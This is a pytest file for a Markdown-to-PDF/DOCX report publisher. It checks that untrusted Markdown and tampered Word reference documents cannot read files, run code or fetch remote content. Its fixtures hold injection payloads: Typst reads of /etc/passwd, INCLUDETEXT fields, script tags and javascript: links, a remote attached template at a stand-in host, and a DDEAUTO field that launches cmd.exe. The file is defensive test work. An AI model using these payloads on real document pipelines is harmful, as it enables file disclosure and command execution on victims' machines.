"""Markdown from a stranger becomes text in the documents: no code, no file, no field, no foreign relation."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from lkj.publish.docx import finish
from lkj.publish.errors import EngineError
from lkj.publish.layout import Layout, Properties
from lkj.publish.pandoc import Pandoc
from lkj.publish.periksa import pdf_text
from lkj.publish.terbitkan import Assets, Publisher, check_reference
from lkj.publish.typst import Layouter, fonts
from lkj.report.lingkungan import package_templates

if TYPE_CHECKING:
    from conftest import Proyek

OWN = package_templates()
FILTER, REFERENCE = OWN / "filter.lua", OWN / "reference.docx"
ABOUT = Properties("Judul", "Penulis", 0)
# Text that shows by its place whether it was run or printed.
SPY = '#read("/etc/passwd")'
FIELD = '<w:r><w:instrText>INCLUDETEXT "/etc/passwd"</w:instrText></w:r>'
TABEL = "``` {{.tabel}}\n<table><tr>{}</tr></table>\n```"

HOSTILE = {
    "typst-blok": f"```{{=typst}}\n{SPY}\n```",
    "typst-sebaris": f"a `{SPY}`{{=typst}} b",
    "typst-polos": f"{SPY} #import \"x.typ\" -{SPY}- /{SPY}",
    "typst-baris-baru": f"a\\\n{SPY}\n\\{SPY}",
    "typst-rumus": f"$x$ $${SPY}$$ $`{SPY}`$",
    "typst-pengutip": f'"{SPY} \'{SPY}',
    "openxml-blok": f"```{{=openxml}}\n<w:p>{FIELD}</w:p>\n```",
    "openxml-sebaris": f"a `{FIELD}`{{=openxml}} b",
    "html": '<script>alert(1)</script>\n\n<img src="/etc/passwd">\n\na <a href="file:///etc/passwd">b</a> <!-- c -->',
    "yaml-kepala": f'---\ntitle: "{SPY}"\nheader-includes: "{SPY}"\n---\n\na',
    "catatan-kaki": f"a[^1]\n\n[^1]: `{SPY}`{{=typst}} ![x](/etc/passwd) `{FIELD}`{{=openxml}}\n",
    "gambar-berkas": "![x](/etc/passwd)\n\nb ![x](../../data/2024/satker.yaml) c\n\n![y](file:///etc/passwd){width=3cm}",
    "gambar-jaringan": "![z](http://127.0.0.1:9/x.png)\n\n![z](//127.0.0.1:9/x.png)",
    "gambar-data": "![d](data:image/svg+xml,%3Csvg%3E)",
    "gambar-palsu": f"![x](gambar:../../etc/passwd)\n\n![x](<gambar:a\"), {SPY}>)",
    "tautan": "[a](file:///etc/passwd) [b](javascript:alert(1)) [c](JAVASCRIPT:x) [d](//x/y) [e](data:text/html,x) <file:///etc/passwd>",
    "atribut-typst": '::: {typst:text:fill="read(1)" typst:fill="read(1)"}\na\n:::\n\n[b]{typst:text:fill="read(1)"}\n\n| a |\n|---|\n| b |\n{typst:fill="read(1)"}',
    "atribut-judul": '# Judul {typst:fill="read(1)" custom-style="Title" nomor="#read(1)" #a-b .x}',
    "atribut-kode": '``` {.typst typst:text:fill="read(1)"}\n#read(1)\n```\n\n`#read(1)`{.typst typst:fill="read(1)"}',
    "atribut-tautan": '[c](https://kpu.go.id "t"){typst:fill="read(1)" custom-style="Title"}',
    "kelas-asing": '::: {.rahasia custom-style="Title"}\na\n:::\n\n[b]{.rahasia custom-style="Strong"}',
    "tabel-sel": TABEL.format('<td data-typst:fill="read(1)" data-typst:text:fill="read(1)">a</td>'),
    "tabel-baris": '``` {.tabel}\n<table data-typst:fill="read(1)"><thead data-typst:fill="read(1)"><tr data-typst:fill="read(1)"><th data-typst:fill="read(1)">a</th></tr></thead><tbody data-typst:fill="read(1)"><tr data-typst:fill="read(1)"><td>b</td></tr></tbody></table>\n```',
    "tabel-isi": TABEL.format(
        f'<td><img src="/etc/passwd"><a href="file:///etc/passwd">a</a><script>b</script><span class="math">{SPY}</span>'
        f'<iframe src="/etc/passwd"></iframe><div data-custom-style="Title" data-typst:fill="read(1)">{SPY}</div></td>'
    ),
    "tabel-bukan-tabel": f"``` {{.tabel}}\n<p>{SPY}</p>\n```",
    "tabel-kosong": "``` {.tabel}\n\n```",
    "jarak": f'::: {{.jarak tinggi="1cm) {SPY.replace(chr(34), "")}"}}\n:::\n\n::: {{.jarak tinggi="1e999"}}\n:::\n\n::: {{.jarak tinggi="nan"}}\n:::',
    "penampung": '::: {.bagian .mendatar typst:fill="read(1)"}\n:::\n\n::: {.tanda-tangan typst:fill="read(1)"}\na\n:::',
}  # fmt: skip
CASES = pytest.mark.parametrize("markdown", list(HOSTILE.values()), ids=list(HOSTILE))

# What the writer and the filter may call; arguments of these are layout, never text.
ALLOWED = {
    "set", "table", "figure", "link", "footnote", "strong", "emph", "block", "box", "strike", "super", "sub", "quote", "v",
    "pagebreak", "utuh", "horizontalrule", "linebreak", "counter", "tanda-tangan", "smallcaps", "page", "underline", "text", "align",
}  # fmt: skip


def printed(body: str) -> str:
    """Return the text of the PDF that Typst makes of a body."""
    preamble = (OWN / "laporan.typ").read_text(encoding="utf-8")
    with Layouter(f"{preamble}\n{body}", layout=Layout(), properties=ABOUT, figures={}, book=fonts()) as laid:
        return "".join(pdf_text(laid.pdf()))


def typst_of(markdown: str) -> str:
    """Return the Typst text that the report's own filter makes."""
    return Pandoc("typst", lua_filter=FILTER).convert(markdown).decode()


def docx_of(markdown: str) -> dict[str, str]:
    """Return the XML parts of the DOCX that the report's own filter makes."""
    data = Pandoc("docx", lua_filter=FILTER, options=["--reference-doc", str(REFERENCE)]).convert(markdown)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {n: archive.read(n).decode() for n in archive.namelist() if n.endswith((".xml", ".rels"))}


def code_of(typst: str) -> str:
    """Return Typst text without what is only printed: raw text, escapes."""
    without_raw = re.sub(r"(`{3,}).*?\1|`[^`]*`", "", typst, flags=re.DOTALL)
    return re.sub(r"\\.", "", without_raw)


@CASES
def test_typst_runs_nothing_of_it(markdown: str) -> None:
    """Only layout calls of the writer's own stand in the code; all else is escaped or raw text."""
    code = code_of(typst_of(markdown))
    assert set(re.findall(r"(?<!\")#([\w-]+)", code)) <= ALLOWED
    # Brackets of the text are escaped, so each one left is a call.
    assert set(re.findall(r"([\w.-]+)\(", code)) <= ALLOWED | {"table.cell", "table.header", "table.hline", "rgb"}


@CASES
def test_the_pdf_is_made_and_shows_no_file(markdown: str) -> None:
    """Typst accepts the text, so prose cannot stop a build either, and prints no file of the machine."""
    text = printed(typst_of(f"# Awal\n\n{markdown}\n\nakhir"))
    assert "akhir" in text
    assert "root:" not in text
    assert "skema: 1" not in text


@CASES
def test_the_docx_holds_no_field_picture_or_foreign_relation(markdown: str) -> None:
    """No field code, no picture, no script, no link but to the web; the style is the template's choice."""
    parts = docx_of(markdown)
    document = parts["word/document.xml"]
    assert "<w:instrText" not in document
    assert "<w:drawing" not in document
    assert 'w:val="Title"' not in document
    assert "root:" not in document
    for name, part in parts.items():
        if not name.endswith(".rels"):
            continue
        for relation in re.findall(r"<Relationship\b[^>]*>", part):
            if 'TargetMode="External"' in relation:
                assert re.search(r'Target="(https?://|mailto:)', relation)
            assert not re.search(r'Target="(file|javascript|data|/etc)', relation)


def test_text_comes_out_as_it_went_in() -> None:
    """What looks like code to Typst is printed letter by letter."""
    assert f"{SPY} -9 -- x" in printed(typst_of(f"{SPY} -9 -- x"))


@pytest.mark.parametrize("markdown", ["a ![x](gambar:gambar-capaian) b", "![x](gambar:tidak-ada)"])
def test_a_figure_out_of_place_is_no_file(markdown: str) -> None:
    """A figure's name inside a sentence, or of no figure, must not send Typst to the disk."""
    assert 'image("' not in typst_of(markdown)


def test_web_links_stay() -> None:
    """What a report needs still works: links to the web, and by mail; one into the document might lead nowhere."""
    typst = typst_of("[a](https://kpu.go.id) [b](mailto:a@kpu.go.id) [c](#bab)")
    assert re.findall(r"#link\(([^)]*)\)", typst) == ['"https://kpu.go.id"', '"mailto:a@kpu.go.id"']
    relations = docx_of("[a](https://kpu.go.id)")["word/_rels/document.xml.rels"]
    assert 'Target="https://kpu.go.id"' in relations


@pytest.mark.parametrize("name", ["filter.lua", "laporan.typ"])
def test_code_of_the_project_is_not_run(proyek: Proyek, name: str) -> None:
    """Filter and preamble are code: those of the project's own templates folder are not used."""
    proyek.tulis(f"../../templates/{name}", "ini bukan kode yang sah ((( #panic()")
    code, stdout, _ = proyek.jalankan("build", "2024")
    assert (code, stdout) == (0, "build/lkj-2024.docx\nbuild/lkj-2024.pdf\n")


RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LINKED = (
    f'<Relationships xmlns="{RELATIONS}"><Relationship Id="rId1" Type="{OFFICE}/attachedTemplate"'
    ' Target="http://jahat.example/x.dotm" TargetMode="External"/></Relationships>'
)
FOOTER = (
    '<w:ftr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r><w:instrText>{}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:ftr>'
)


def reference(path: Path, **changed: str) -> Path:
    """Write a copy of the shipped reference document in which some parts are others."""
    with zipfile.ZipFile(REFERENCE) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts |= {name: text.encode() for name, text in changed.items()}
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


@pytest.mark.parametrize(
    "changed",
    [
        {"word/vbaProject.bin": "makro"},
        {"word/_rels/settings.xml.rels": LINKED},
        {"word/_rels/settings.xml.rels": LINKED.replace('"', "'")},
        {"word/_rels/settings.xml.rels": LINKED.replace('"External"', ' "&#69;xternal"')},
        {
            "word/_rels/settings.xml.rels": LINKED.replace("xmlns=", "xmlns:p=")
            .replace("<R", "<p:R")
            .replace("</R", "</p:R")
        },
        {"word/_rels/footer1.xml.rels": LINKED.replace("attachedTemplate", "image")},
        {"word/footer1.xml": FOOTER.format(' INCLUDETEXT "C:\\\\rahasia.docx" ')},
        {"word/footer1.xml": FOOTER.format(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')},
        {"word/_rels/settings.xml.rels": "bukan xml"},
    ],
    ids=[
        "makro",
        "templat",
        "templat-petik",
        "templat-entitas",
        "templat-awalan",
        "gambar-luar",
        "sisip-berkas",
        "dde",
        "rusak",
    ],
)
def test_a_dangerous_reference_document_is_refused(proyek: Proyek, changed: dict[str, str]) -> None:
    """A styles document that would fetch or run something when the report is opened stops the build with exit 3."""
    reference(proyek.root / "templates" / "reference.docx", **changed)
    code, stdout, stderr = proyek.jalankan("build", "2024")
    assert (code, stdout) == (3, "")
    assert "reference.docx" in stderr
    assert "saran: " in stderr
    assert not (proyek.root / "build").exists()


@pytest.mark.parametrize("text", ["", "bukan zip"])
def test_a_broken_reference_document_is_refused(proyek: Proyek, text: str) -> None:
    """A file that is no Word document is named, with the way back."""
    proyek.tulis("../../templates/reference.docx", text)
    code, _, stderr = proyek.jalankan("build", "2024")
    assert code == 3
    assert "reference.docx bukan dokumen Word yang utuh" in stderr


def test_a_restyled_reference_document_is_used(proyek: Proyek) -> None:
    """An officer's own styles are taken: fields for page numbers and a link in the footer do no harm."""
    path = reference(proyek.root / "templates" / "reference.docx", **{"word/footer1.xml": FOOTER.format(" PAGE ")})
    check_reference(path)
    assert proyek.jalankan("build", "2024", "--format", "docx")[0] == 0


def test_a_refused_reference_document_leaves_no_engine_behind(tmp_path: Path) -> None:
    """No pandoc is left waiting for input that never comes."""
    path = reference(tmp_path / "reference.docx", **{"word/vbaProject.bin": "makro"})
    started: list[Pandoc] = []

    class Counted(Pandoc):
        def __init__(self, to: str, **options: object) -> None:
            super().__init__(to, **options)  # type: ignore[arg-type]
            started.append(self)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("lkj.publish.terbitkan.Pandoc", Counted)
        with pytest.raises(EngineError):
            Publisher(Assets(FILTER, OWN / "laporan.typ", path, OWN / "web"), ("docx", "pdf"))
    waiting = [engine for engine in started if engine._child.process.poll() is None]
    for engine in waiting:
        engine.stop()
    assert not waiting


def test_marks_of_the_filter_cannot_be_forged(tmp_path: Path) -> None:
    """The finished DOCX has no field that prose wrote, even in the words that our own lists use."""
    markdown = f"::: {{.daftar-isi}}\n:::\n\n# Satu\n\n`{FIELD}`{{=openxml}} INCLUDETEXT"
    data = Pandoc("docx", lua_filter=FILTER, options=["--reference-doc", str(REFERENCE)]).convert(markdown)
    done = finish(data, pages={}, pictures={}, picture_width=lambda _: 15.0, layout=Layout(), properties=ABOUT)
    with zipfile.ZipFile(io.BytesIO(done)) as archive:
        document = archive.read("word/document.xml").decode()
    codes = re.findall(r"<w:instrText[^>]*>([^<]*)</w:instrText>", document)
    assert codes
    assert all(code.split()[0] in ("TOC", "PAGEREF") for code in codes)
